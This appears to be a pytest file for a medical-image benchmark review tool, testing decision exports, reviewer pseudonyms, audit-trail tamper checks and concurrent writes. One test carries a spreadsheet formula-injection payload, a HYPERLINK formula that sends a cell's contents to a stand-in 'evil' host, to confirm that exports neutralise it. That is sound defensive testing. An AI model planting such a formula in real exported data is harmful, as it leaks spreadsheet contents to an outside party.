import csv
import io
import json

import pytest
from django.db import connection, connections

from medrcube.build.release.review_verdicts import load_review_results
from medrcube.review.audit_trail.event_chain import chain_head
from medrcube.review.errors import ReviewError
from medrcube.review.exchange.export_decisions import (
    export_decisions,
    spreadsheet_safe,
    write_verdicts,
)
from medrcube.review.models import Project, User
from medrcube.review.quality.gold_items import make_gold
from medrcube.review.reviewing import claims
from medrcube.review.reviewing.decisions import adjudicate
from medrcube.review.reviewing.edits import Edit, edit

WORDS = ("glioma", "meningioma", "brain abscess", "infarct")
LONG = "0123456789abcdef"
EDIT = Edit(question="Which diagnosis fits this MRI image best?", options=WORDS, key=0, note="n")


def rows(path):
    text = path.read_bytes().decode()
    if path.suffix == ".csv":
        return list(csv.DictReader(io.StringIO(text, newline="")))
    return [json.loads(line) for line in text.split("\n") if line]


def verdicts(bench):
    return {row["id"]: row for row in rows(bench.workspace.root / "accepted.jsonl")}


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_every_decision_is_exported_with_its_reasons(three, review, reviewers, tmp_path, kind):
    review({"a": "reject"}, {"a": ("KEY_WRONG", "AMBIGUOUS_STEM")}, comment="look again")
    outcomes = export_decisions(tmp_path / "out", kind)
    results = {name.partition(".")[0]: rows(tmp_path / "out" / name) for name in outcomes}
    assert {name: len(part) for name, part in results.items()} == {
        "reviews": 6,
        "blind_answers": 6,
        "reasons": 4,
        "proposals": 0,
        "adjudications": 0,
    }
    pseudonyms = {reviewer.pseudonym for reviewer in reviewers}
    assert {row["reviewer"] for row in results["reviews"]} == pseudonyms
    rejected = [row for row in results["reviews"] if row["decision"] == "reject"]
    assert {row["item"] for row in rejected} == {"a"}
    assert {row["comment"] for row in rejected} == {"look again"}
    assert {row["code"] for row in results["reasons"]} == {"KEY_WRONG", "AMBIGUOUS_STEM"}
    assert {str(row["answer_is_key"]).casefold() for row in results["reviews"]} <= {"yes", "true"}


def test_an_adjudication_is_exported_under_a_pseudonym(three, review, person, tmp_path):
    review({"a": "revise"})
    judge = person("adjudicator")
    adjudicate("a", 1, judge, outcome="accept", rationale="fine after all")
    export_decisions(tmp_path / "out", "jsonl")
    (row,) = rows(tmp_path / "out" / "adjudications.jsonl")
    assert (row["adjudicator"], row["outcome"]) == (judge.pseudonym, "accept")
    assert (row["item"], row["rationale"]) == ("a", "fine after all")


def test_nothing_that_is_written_names_a_person(three, review, reviewers, tmp_path):
    review()
    export_decisions(tmp_path / "csv", "csv")
    export_decisions(tmp_path / "jsonl", "jsonl")
    write_verdicts(three.workspace.root)
    files = [path for path in tmp_path.rglob("*") if path.suffix in {".csv", ".jsonl", ".json"}]
    assert len(files) >= 10
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert "sentinel" not in text.replace("patient-hash-sentinel", "")
        assert "example.org" not in text


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx"])
def test_text_that_a_spreadsheet_would_run_is_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["a=1", "", 5, -5, None, "ünï"])
def test_other_values_stay_as_they_are(value):
    assert spreadsheet_safe(value) == value


def test_a_comment_cannot_become_a_formula(three, review, tmp_path):
    nasty = '=HYPERLINK("http://evil/?"&A1,"x"),"\r\n-1'
    review({"a": "reject"}, comment=nasty)
    export_decisions(tmp_path / "out", "csv")
    comments = {row["comment"] for row in rows(tmp_path / "out" / "reviews.csv")}
    assert comments == {"'" + nasty}


def test_every_item_flows_back_with_state_wording_and_reviewers(three, review, person):
    review({"b": "reject"})
    edit("c", 1, person("manager"), EDIT)
    export = write_verdicts(three.workspace.root)
    result = verdicts(three)
    assert {name: row["state"] for name, row in result.items()} == {
        "a": "accepted",
        "b": "rejected",
        "c": "queued",
    }
    assert (export.items, export.accepted) == (3, 1)
    assert [result[name]["reviewers"] for name in "abc"] == [2, 2, 0]
    assert (result["c"]["version"], result["c"]["edited"]) == (2, True)
    assert [option["text"] for option in result["c"]["options"]] == list(WORDS)
    assert result["c"]["options"][1]["ids"] == ["hpo:HP:0000001"]


def test_the_summary_holds_head_coverage_and_agreement(three, review):
    review({"b": "reject"})
    write_verdicts(three.workspace.root)
    summary = json.loads((three.workspace.root / "review.json").read_text())
    assert summary["head"] == {"number": chain_head().number, "sha256": chain_head().sha256}
    assert summary["coverage"]["states"] == {"accepted": 2, "rejected": 1}
    stratum = "MRI | Disease Diagnosis | predefined"
    assert summary["coverage"]["strata"] == {stratum: {"accepted": 2, "rejected": 1}}
    (part,) = summary["agreement"]["strata"]
    assert (part["stratum"], part["reviewers"]) == (stratum, 2)
    assert part["estimates"]["raw"]["value"] == 1.0


def test_the_same_queue_gives_the_same_bytes(three, review):
    review()
    root = three.workspace.root
    write_verdicts(root)
    before = [(root / name).read_bytes() for name in ("accepted.jsonl", "review.json")]
    write_verdicts(root)
    assert before == [(root / name).read_bytes() for name in ("accepted.jsonl", "review.json")]


def test_an_adjudicator_counts_as_a_reviewer(three, review, person):
    review({"a": "revise"})
    adjudicate("a", 1, person("adjudicator"), outcome="accept", rationale="fine")
    write_verdicts(three.workspace.root)
    assert verdicts(three)["a"]["reviewers"] == 3


def test_gold_items_never_flow_back(three, take_in, person):
    three.add(LONG)
    take_in()
    change = Edit(question=EDIT.question, options=WORDS, key=2, note="n")
    gold = make_gold(LONG, 1, person("manager"), defect="KEY_WRONG", change=change)
    export = write_verdicts(three.workspace.root)
    text = (three.workspace.root / "accepted.jsonl").read_text()
    assert (export.items, gold.pk in text) == (4, False)


def test_nothing_is_written_when_the_trail_was_changed(three, review):
    review()
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'review_event'"
        )
        for (name,) in cursor.fetchall():
            cursor.execute(f"DROP TRIGGER {name}")
        cursor.execute("UPDATE review_event SET body = '{}' WHERE number = 3")
    with pytest.raises(ReviewError, match="event 3 was changed"):
        write_verdicts(three.workspace.root)
    assert not (three.workspace.root / "accepted.jsonl").exists()


def test_people_go_on_while_an_export_runs(three, reviewers, monkeypatch):
    """A writer on a connection of its own is not kept waiting by the reading."""
    import sqlite3  # noqa: PLC0415

    from medrcube.review.exchange import export_decisions as exporting  # noqa: PLC0415

    name = connections["default"].settings_dict["NAME"]
    original = exporting._verdicts

    def slow():
        yield from original()
        with sqlite3.connect(name, timeout=0.2) as other:
            other.execute("UPDATE review_item SET priority = 5")

    monkeypatch.setattr(exporting, "_verdicts", slow)
    assert write_verdicts(three.workspace.root).items == 3


def test_what_comes_in_meanwhile_is_in_no_part_of_the_export(three, reviewers, monkeypatch):
    import threading  # noqa: PLC0415

    from medrcube.review.exchange import export_decisions as exporting  # noqa: PLC0415

    before, original = chain_head(), exporting._verdicts

    def interrupted():
        worker = threading.Thread(target=_claims, args=(reviewers[0].pk,))
        worker.start()
        worker.join()
        yield from original()

    monkeypatch.setattr(exporting, "_verdicts", interrupted)
    assert write_verdicts(three.workspace.root).head == before
    assert chain_head().number > before.number


def _claims(key):
    claims.claim_next(User.objects.get(pk=key))
    connections["default"].close()


def test_a_release_reads_what_the_queue_wrote(three, review):
    review()
    write_verdicts(three.workspace.root)
    review_results = load_review_results(three.workspace.root)
    assert review_results.verdicts["a"].options == three.items["a"].options
    assert review_results.verdicts["a"].state == "accepted"


@pytest.mark.thorough
def test_export_on_postgresql_sees_one_moment(postgresql, bench, tmp_path):
    from medrcube.console.progress import Reporter  # noqa: PLC0415
    from medrcube.review.exchange.import_items import import_workspace  # noqa: PLC0415

    bench.add("a")
    report = import_workspace(bench.write(), Reporter(quiet=True))
    assert (report.added, import_workspace(bench.write(), Reporter(quiet=True)).unchanged) == (1, 1)
    assert write_verdicts(bench.workspace.root).items == 1
    assert export_decisions(tmp_path / "out", "csv")["reviews.csv"] == 0
    assert Project.objects.count() == 1


def test_export_says_how_many_strata_pass_the_gate(three, review):
    assert write_verdicts(three.workspace.root).strata == {}, "nobody has reviewed yet"
    review({"b": "reject"})
    assert write_verdicts(three.workspace.root).strata == {"not good enough to be released": 1}
